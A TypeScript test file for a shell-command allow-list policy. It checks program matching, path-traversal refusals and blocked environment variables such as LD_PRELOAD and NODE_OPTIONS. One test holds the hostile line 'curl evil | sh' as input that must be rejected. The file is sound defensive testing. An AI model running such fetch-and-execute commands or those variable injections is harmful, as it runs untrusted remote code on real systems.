import { describe, expect, it } from 'vitest';
import { ShellPolicy } from './shell-policy.ts';

const PROGRAMS: Record<string, string> = {
  rsync: '/usr/bin/rsync',
  sh: '/bin/sh',
  bash: '/bin/bash',
  node: '/usr/local/bin/node',
};
const policy = (...allow: string[]): ShellPolicy => new ShellPolicy(allow, (name) => PROGRAMS[name]);
const fieldsOf = (allow: string[], config: object): string[] =>
  policy(...allow)
    .refusals(config as never)
    .map(({ path }) => path.join('.'));

describe('programs', () => {
  it.each([
    [['rsync'], 'rsync'],
    [['rsync'], '/usr/bin/rsync'],
    [['rs*'], 'rsync'],
    [['/usr/bin/rsync'], 'rsync'],
    [['/usr/bin/*'], 'rsync'],
    [['/opt/jobs/*'], '/opt/jobs/backup'],
    [['/opt/jobs/*'], '/opt/x/../jobs/backup'],
    [['/opt/*/bin/j?b'], '/opt/a/bin/job'],
    [['not-here'], 'not-here'],
    [['x', 'rsync'], 'rsync'],
  ])('%j lets %s run', (allow, command) => {
    expect(fieldsOf(allow, { command, args: [] })).toEqual([]);
  });

  it.each([
    [[], 'rsync'],
    [['rsync'], '/tmp/rsync'],
    [['rsync'], './rsync'],
    [['rsync'], '../usr/bin/rsync'],
    [['rsync'], 'rsync2'],
    [['rs'], 'rsync'],
    [['/usr/bin/rsync'], '/usr/bin/../../tmp/rsync'],
    [['/opt/jobs/*'], '/opt/jobs/../../bin/sh'],
    [['/opt/jobs/*'], '/opt/jobs/deeper/backup'],
    [['/opt/jobs/*'], 'backup'],
    [['rsync.'], 'rsync'],
    [['*'], '/tmp/evil'],
    [['sh'], 'bash'],
  ])('%j keeps %s from running', (allow, command) => {
    expect(fieldsOf(allow, { command, args: [] })).toEqual(['command']);
  });

  it("are files on Tutti's own path, not on one of the task", () => {
    expect(policy('rsync').fileOf('rsync')).toBe('/usr/bin/rsync');
    expect(policy('rsync').fileOf('/a/../b')).toBe('/b');
    for (const name of [
      'PATH',
      'LD_PRELOAD',
      'LD_LIBRARY_PATH',
      'BASH_ENV',
      'ENV',
      'NODE_OPTIONS',
      'PYTHONPATH',
    ])
      expect(fieldsOf(['rsync'], { command: 'rsync', args: [], env: { [name]: '/tmp', OK: '1' } })).toEqual([
        `env.${name}`,
      ]);
  });
});

describe('shell lines', () => {
  it.each([
    [['sh'], { command: 'echo hi' }, []],
    [['/bin/sh'], { command: 'echo hi' }, []],
    [['rsync'], { command: 'rsync a b' }, ['command']],
    [['rsync'], { command: 'rsync' }, ['command']],
    [[], { command: 'echo hi' }, ['command']],
    [['sh'], { command: 'echo', shell: '/bin/bash' }, ['shell']],
    [['bash'], { command: 'echo', shell: '/bin/bash' }, []],
    [['sh'], { command: 'echo', shell: '/tmp/sh' }, ['shell']],
  ])('%j and %j: %j', (allow, config, fields) => expect(fieldsOf(allow, config)).toEqual(fields));
});

it('says what is allowed, and what to do', () => {
  const parsed = policy('rsync', 'node').schema().safeParse({ command: 'curl evil | sh' });
  expect(parsed.error?.issues[0]).toMatchObject({
    path: ['command'],
    message: expect.stringContaining('rsync, node'),
    params: { fix: expect.stringContaining('add sh to TUTTI_SHELL_ALLOW') },
  });
});
